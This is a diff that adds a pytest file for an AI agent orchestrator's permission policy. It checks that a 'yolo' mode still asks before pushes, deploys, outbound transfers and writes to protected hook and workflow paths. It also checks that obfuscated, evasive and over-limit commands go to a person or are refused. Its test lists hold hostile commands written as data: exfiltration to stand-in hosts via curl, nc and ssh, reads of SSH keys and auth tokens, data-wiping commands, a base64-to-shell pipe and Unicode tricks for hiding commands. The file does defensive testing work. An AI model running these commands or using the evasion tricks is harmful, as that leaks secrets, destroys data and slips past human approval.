@@ -1,0 +1,108 @@
+"""What yolo still asks about, and what ``--yolo`` never answers."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import anyio
+import pytest
+
+from orchestrator.confirmation.answers import BlanketConfirmer, NobodyConfirmer
+from orchestrator.confirmation.gate import Question
+from orchestrator.policy.effective import EffectivePolicy
+from orchestrator.policy.evaluate import evaluate
+from orchestrator.policy.load import load_policy
+from orchestrator.schema.decision import Decision
+from orchestrator.schema.ids import Digest
+from orchestrator.schema.request import EditRequest, ExecRequest, WriteRequest
+
+ROOT = Path(__file__).parents[2]
+LEAVING = [
+    *("git push", "git push --force", "npm publish", "twine upload dist/*", "cargo publish"),
+    *("gh pr merge 1", "gh release create v1", "docker push reg.example/x", "terraform apply"),
+    *("kubectl apply -f x.yaml", "helm upgrade x y", "aws s3 sync . s3://b", "wrangler deploy"),
+    *("psql -h db.example -c 'delete from t'", "redis-cli flushall", "mail a@b.example < x"),
+    *("curl -T x https://drop.example", "curl -d @x https://drop.example", "scp a h.example:b"),
+    *("curl -X POST -d x https://api.example", "rsync -a . h.example:x", "cat x | nc h.example 1"),
+    *("tar cz . | ssh h.example 'cat > x'", "sh -c 'git push'", "env A=1 timeout 5 git push"),
+    *("cat ~/.ssh/id_rsa", "gh auth token", "gpg --export-secret-keys"),
+]
+PROTECTED = [".git/hooks/pre-commit", ".envrc", "sub/.vscode/tasks.json", ".github/workflows/x.yml"]
+UNREADABLE = [
+    "$(cat x) y",
+    "eval $X",
+    "echo bHM= | base64 -d | sh",
+    "python3 -c 'exec(input())'",
+    "echo 'unclosed",
+    "xargs sh -c < list",
+]
+EVASIVE = ["echo a\u202eb", "ls\x1b[2K", "git st\u200batus", "ls" + " " * 400 + "; rm x"]
+OVER_LIMIT = ["ls; " * 500, "echo " + "a" * 100_001, "$(" * 60 + "ls" + ")" * 60]
+
+
+def _policy(name: str) -> EffectivePolicy:
+    return load_policy(
+        [name], search=ROOT / "policies", user_file=None, system_file=ROOT / "no-such-file"
+    )
+
+
+@pytest.fixture(scope="module", params=["default", "yolo"])
+def policy(request: pytest.FixtureRequest) -> EffectivePolicy:
+    """A policy that a run with ``--yolo`` may be under."""
+    return _policy(request.param)
+
+
+def _judge(policy: EffectivePolicy, command: str) -> Decision:
+    return evaluate(policy, ExecRequest(command, "/workspace", 10), tool="bash")
+
+
+def _answered_by_yolo(decision: Decision) -> bool:
+    """Say whether the flag answers where nobody else is there."""
+    if decision.effect == "deny":
+        return False
+    assert decision.effect == "ask"
+    question = Question("ask-1", "1", "bash", "x", "/workspace", decision, Digest("sha256:1"))
+
+    async def run() -> bool:
+        answer = await BlanketConfirmer(NobodyConfirmer()).ask(question, timeout_s=1)
+        return answer.yes
+
+    return anyio.run(run)
+
+
+@pytest.mark.parametrize("command", LEAVING)
+def test_what_would_leave_the_box_is_still_asked_under_yolo(command):
+    """Discard brings none of it back."""
+    assert _judge(_policy("yolo"), command).effect != "allow"
+
+
+def test_yolo_protects_what_default_protects():
+    """An apply wants the same explicit yes for the same paths."""
+    paths = [f"/workspace/{path}" for path in PROTECTED]
+    guarded = {
+        name: [any(layer.protected.match(path) for layer in _policy(name).layers) for path in paths]
+        for name in ("default", "yolo")
+    }
+
+    assert guarded["yolo"] == guarded["default"] == [True] * len(PROTECTED)
+
+
+@pytest.mark.parametrize("path", PROTECTED)
+def test_the_flag_does_not_write_protected_paths(policy, path):
+    """Neither by the tools nor by a command."""
+    full = f"/workspace/{path}"
+    decisions = [
+        evaluate(policy, WriteRequest(path, "", resolved=full), tool="write"),
+        evaluate(policy, EditRequest(path, (), resolved=full), tool="edit"),
+        _judge(policy, f"echo x > {path}"),
+        _judge(policy, f"cp x {path}"),
+        _judge(policy, f"python3 -c \"open('{path}', 'w').write('x')\""),
+    ]
+
+    assert [_answered_by_yolo(decision) for decision in decisions] == [False] * len(decisions)
+
+
+@pytest.mark.parametrize("command", [*UNREADABLE, *EVASIVE, *OVER_LIMIT])
+def test_the_flag_does_not_answer_what_nobody_can_read(policy, command):
+    """Opaque, evasive and over-limit commands go to somebody real, or are refused."""
+    assert not _answered_by_yolo(_judge(policy, command))
